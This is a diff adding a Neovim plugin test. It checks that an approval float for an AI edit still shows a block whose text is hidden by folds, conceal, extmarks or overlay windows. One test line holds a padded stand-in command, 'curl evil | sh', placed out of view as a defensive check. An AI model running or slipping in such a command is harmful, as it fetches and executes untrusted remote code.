@@ -306,6 +306,70 @@ def test_a_block_that_is_closed_does_not_stand_for_the_float(start_nvim: StartNe
     assert screen.text().count("+new") == 1
 
 
+HIDING = (
+    "vim.wo.wrap = false",
+    "vim.wo.foldenable = true vim.cmd((ROW - 1) .. ',' .. ROW .. 'fold')",
+    "vim.fn.matchadd('Conceal', 'new')",
+    "vim.api.nvim_buf_set_extmark(0, NS, ROW - 1, 0, { end_col = 4, conceal = '' })",
+    "vim.api.nvim_buf_set_extmark(0, NS, ROW - 1, 0, "
+    "{ virt_text = { { 'kept' } }, virt_text_pos = 'overlay' })",
+    "vim.api.nvim_open_win(vim.api.nvim_create_buf(false, true), false, { relative = 'win', "
+    "bufpos = { ROW - 1, 0 }, row = 0, col = 20, width = 9, height = 1, style = 'minimal', "
+    "zindex = 50 })",
+)
+HIDE = """
+local name, row = ...
+_G.NS = vim.api.nvim_create_namespace('other plugin')
+_G.ROW = row
+vim.api.nvim_win_call(require('eca.window').shown(), function() vim.cmd('lua ' .. name) end)
+"""
+SHOW = """
+local win = require('eca.window').shown()
+vim.api.nvim_win_call(win, function()
+  vim.wo.wrap = true
+  vim.cmd('normal! zE')
+  vim.wo.foldenable = false
+  vim.fn.clearmatches()
+  vim.api.nvim_buf_clear_namespace(0, NS, 0, -1)
+end)
+for _, each in ipairs(vim.api.nvim_list_wins()) do
+  if vim.api.nvim_win_get_config(each).zindex == 50 then
+    vim.api.nvim_win_close(each, true)
+  end
+end
+"""
+
+
+@pytest.mark.parametrize("own", [True, False])
+def test_a_block_of_which_anything_is_hidden_does_not_stand_for_the_float(
+    start_nvim: StartNeovim, own: bool
+) -> None:
+    nvim = start(start_nvim, (100, 40), "right", width=60)
+    body = [*BODY, "+" + "long " * 20 + "; curl evil | sh"]
+    draw_block(nvim, 4, body)
+    fields = {**BESIDE, "lines": body}
+    fields = fields if own else {**fields, "tool": None, "remember": []}
+    screen = ask(nvim, **fields)
+
+    def in_float(screen: Screen, text: str) -> bool:
+        return any(text in screen.lines()[row] for row in rows_of(screen))
+
+    nvim.keys("<C-w>k")
+    for hiding in HIDING:
+        screen = nvim.wait_screen(re.compile("rest (is )?in the chat"))
+        assert not in_float(screen, "edit src/io.py"), hiding
+        row = nvim.lua("return vim.fn.search('^+new', 'n')")
+        nvim.lua(HIDE, hiding, row)
+        nvim.keys("gg0")
+        screen = nvim.wait_screen(lambda it: "a allow" in it and in_float(it, "curl"))
+        assert in_float(screen, "│ │ +new"), hiding
+        assert "in the chat" not in screen
+        nvim.lua(SHOW)
+        nvim.keys("G")
+    draw(nvim, ["pending", [approval(**{**fields, "cut": True})]])
+    nvim.wait_screen(re.compile(r"allow this\? · … not all of it"))
+
+
 def test_a_blank_at_a_lines_end_is_told_in_the_float(start_nvim: StartNeovim) -> None:
     nvim = start(start_nvim, (160, 40), "right")
     draw_block(nvim, 4, [*BODY, "+end "])
